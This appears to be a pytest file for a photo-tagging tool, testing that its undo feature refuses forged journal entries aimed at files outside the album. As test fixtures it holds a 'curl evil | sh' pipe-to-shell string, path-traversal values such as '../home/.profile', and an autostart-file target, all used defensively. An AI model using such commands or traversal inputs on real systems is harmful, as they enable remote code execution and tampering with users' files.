"""Undo by a catalog that somebody else has forged: nothing but photos, their sidecars and our copies is touched."""

import os
import shutil
import sqlite3
from pathlib import Path

import pytest

from tagroll.catalog import Catalog
from tagroll.domain import Change, Metadata, Outcome, Photo, Status, Write
from tagroll.formats import HEAD_BYTES, detect
from tagroll.metadata.containers.picture import picture_hash
from tagroll.metadata.copies import COPY, HARD_LINK, JSON, SYMBOLIC_LINK, XMP
from tagroll.metadata.files.hashing import digest
from tagroll.metadata.files.patch import make_patch
from tagroll.metadata.store import MetadataStore
from tagroll.runs.moved import Moved
from tagroll.runs.run import Run, Workspace
from tagroll.runs.undo import Undoer, choose_run, choose_writes
from tagroll.settings import Settings

FILES = Path(__file__).parents[1] / "files"
STOCK, EVIL = b"# the stock .profile of the system\n", b"curl evil | sh\n"
SIDECAR = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b"<rdf:Description/></rdf:RDF></x:xmpmeta>"
)


class Forged:
    """An album with a photo, files outside it that are worth something, and a catalog that anybody may have made."""

    def __init__(self, tmp_path: Path, catalog: Catalog) -> None:
        self.album, self.home = tmp_path / "album", tmp_path / "home"
        self.album.mkdir()
        self.home.mkdir()
        self.catalog, self.file = catalog, tmp_path / "c"
        self.photo = Path(shutil.copy(FILES / "baseline.jpg", self.album / "a.jpg"))
        self.victim = self.home / ".profile"
        self.victim.write_bytes(STOCK)
        data = self.photo.read_bytes()
        fmt = detect(data[:HEAD_BYTES], ".jpg")
        assert fmt
        self.picture = picture_hash(data, fmt)

    def row(
        self, target: Path, engine: str, before: bytes = EVIL, after: bytes = STOCK, *, run: str = "tag"
    ) -> int:
        """Forge what says: the target had these bytes before tagroll gave it those."""
        number = self.catalog.runs.start(run, [str(self.album)])
        write = Write(
            self.photo, target, engine, Metadata(("Old",)), Metadata(("New",)),
            digest(before) if before else "", digest(after) if after else "",
            make_patch(before, after) if before else b"", self.picture,
        )  # fmt: skip
        self.catalog.journal.settle({self.catalog.journal.add(number, write): "done"})
        self.catalog.runs.finish(number, {})
        return number

    def undo(self, number: int) -> Outcome:
        store = MetadataStore()
        chosen = choose_run(self.catalog, number)
        moved = Moved([self.album], store, self.catalog)
        run = Run(Workspace(Settings(), self.catalog, store, None), self.catalog.runs.start("undo", []))
        undoer = Undoer(run, moved, chosen.command)
        [outcome] = [undoer.undo(numbers) for numbers in choose_writes(self.catalog, chosen, [], moved)]
        return outcome


@pytest.fixture
def forged(tmp_path):
    with Catalog(tmp_path / "c") as catalog:
        yield Forged(tmp_path, catalog)


def refused(outcome: Outcome, *names: object) -> None:
    assert outcome.status is Status.FAILED
    for name in names:
        assert str(name) in outcome.error
    assert "the journal" in outcome.error


@pytest.mark.parametrize("engine", ["sidecar", "jpeg", "exiftool", "ignore_error-of"])
def test_no_file_is_written_that_is_no_photo_and_no_sidecar(engine, forged):
    refused(forged.undo(forged.row(forged.victim, engine)), forged.victim)
    assert forged.victim.read_bytes() == STOCK


@pytest.mark.parametrize("name", ["other.jpg.xmp", "a.xmp.xmp", "a.jpg.xmp.txt", "A.jpg.xmp"])
def test_a_sidecar_of_another_name_is_refused_by_name(name, forged):
    other = forged.home / name
    other.write_bytes(STOCK)
    refused(forged.undo(forged.row(other, "sidecar")), other, "no sidecar of this photo")
    assert other.read_bytes() == STOCK


@pytest.mark.parametrize(("before", "after"), [(EVIL, STOCK), (SIDECAR, STOCK), (EVIL, SIDECAR)])
def test_a_link_of_a_sidecars_name_leads_to_nothing_but_xmp(before, after, forged):
    forged.victim.write_bytes(after)
    (forged.album / "a.jpg.xmp").symlink_to(forged.victim)
    refused(forged.undo(forged.row(forged.victim, "sidecar", before, after)), forged.victim, "no XMP")
    assert forged.victim.read_bytes() == after


@pytest.mark.parametrize("content", [EVIL, SIDECAR])
def test_no_file_is_made_where_none_was(content, forged):
    autostart = forged.home / "evil.desktop"
    assert forged.undo(forged.row(autostart, "sidecar", content, b"")).status is Status.FAILED
    (forged.album / "a.jpg.xmp").symlink_to(autostart)  # to nothing yet
    assert forged.undo(forged.row(autostart, "sidecar", content, b"")).status is Status.FAILED
    assert forged.undo(forged.row(forged.album / "a.xmp", "jpeg", content, b"")).status is Status.FAILED
    assert not autostart.exists()
    assert sorted(path.name for path in forged.album.iterdir()) == ["a.jpg", "a.jpg.xmp"]


@pytest.mark.parametrize("before", [EVIL, (FILES / "progressive.jpg").read_bytes(), b""])
def test_no_picture_is_changed(before, forged):
    data = forged.photo.read_bytes()
    refused(forged.undo(forged.row(forged.photo, "jpeg", before, data)), forged.photo, "picture")
    assert forged.photo.read_bytes() == data


@pytest.mark.parametrize("engine", [COPY, HARD_LINK, JSON, XMP])
def test_no_file_is_removed_that_was_not_made_of_the_photo(engine, forged):
    refused(forged.undo(forged.row(forged.victim, engine, b"", run="classify")), forged.victim)
    other = forged.home / f"b.{engine}"
    content = b'{"title": "x", "source": "/elsewhere.jpg"}'
    other.write_bytes(content)
    refused(forged.undo(forged.row(other, engine, b"", content, run="classify")), other)
    picture = Path(shutil.copy(FILES / "progressive.jpg", forged.home / "b.jpg"))
    row = forged.row(picture, engine, b"", picture.read_bytes(), run="classify")
    refused(forged.undo(row), picture)
    assert all(path.exists() for path in (forged.victim, other, picture))


def test_no_link_is_removed_that_leads_elsewhere(forged):
    link = forged.home / "link"
    link.symlink_to(forged.victim)
    row = forged.row(link, SYMBOLIC_LINK, b"", os.fsencode(forged.victim), run="classify")
    assert forged.undo(row).status is Status.FAILED
    assert link.is_symlink()


@pytest.mark.parametrize(
    ("photo", "target"),
    [
        ("a.jpg", "../home/.profile"),
        ("{}/a.jpg", "a.jpg.xmp"),
        ("{}/a.jpg", "{}/../home/.profile"),
        ("a.jpg", "a.jpg"),
    ],
)
def test_a_relative_path_is_refused_by_name(photo, target, forged, monkeypatch):
    monkeypatch.chdir(forged.album)
    (forged.album / "a.jpg.xmp").write_bytes(SIDECAR)
    run = forged.row(forged.photo, "sidecar", EVIL, SIDECAR)
    names = [os.fsencode(name.format(forged.album)) for name in (photo, target)]
    with sqlite3.connect(forged.file) as connection:
        connection.execute("UPDATE writes SET photo = ?, target = ? WHERE run = ?", (*names, run))
    connection.close()
    before = {path: path.read_bytes() for path in (forged.victim, *forged.album.iterdir())}
    refused(forged.undo(run), "no absolute path")
    assert {path: path.read_bytes() for path in before} == before


def test_the_journal_takes_no_relative_path(forged):
    with pytest.raises(ValueError, match=r"no absolute path: \.profile"):
        forged.row(Path(".profile"), "sidecar")


@pytest.mark.parametrize("name", ["a.jpg.xmp", "a.xmp", "a.XMP"])
def test_what_is_genuine_goes_back_through_links_too(name, forged):
    (forged.home / "store").mkdir()
    kept = forged.home / "store" / "sha256-12ab"  # as git-annex does
    kept.write_bytes(SIDECAR)
    (forged.album / name).symlink_to(kept)
    photo = Photo(forged.photo, 1, 0, detect(forged.photo.read_bytes(), ".jpg"))
    run = forged.catalog.runs.start("tag", [])
    store, before = MetadataStore(sidecar="always"), forged.photo.read_bytes()
    for write in store.write(photo, lambda _: Change(("Dog",)), lambda w: forged.catalog.journal.add(run, w)):
        assert write.target == kept
    forged.catalog.journal.settle({writing.id: "done" for writing in forged.catalog.journal.pending()})
    forged.catalog.runs.finish(run, {})
    assert kept.read_bytes() != SIDECAR
    assert forged.undo(run).status is Status.RESTORED
    assert kept.read_bytes() == SIDECAR
    assert forged.photo.read_bytes() == before
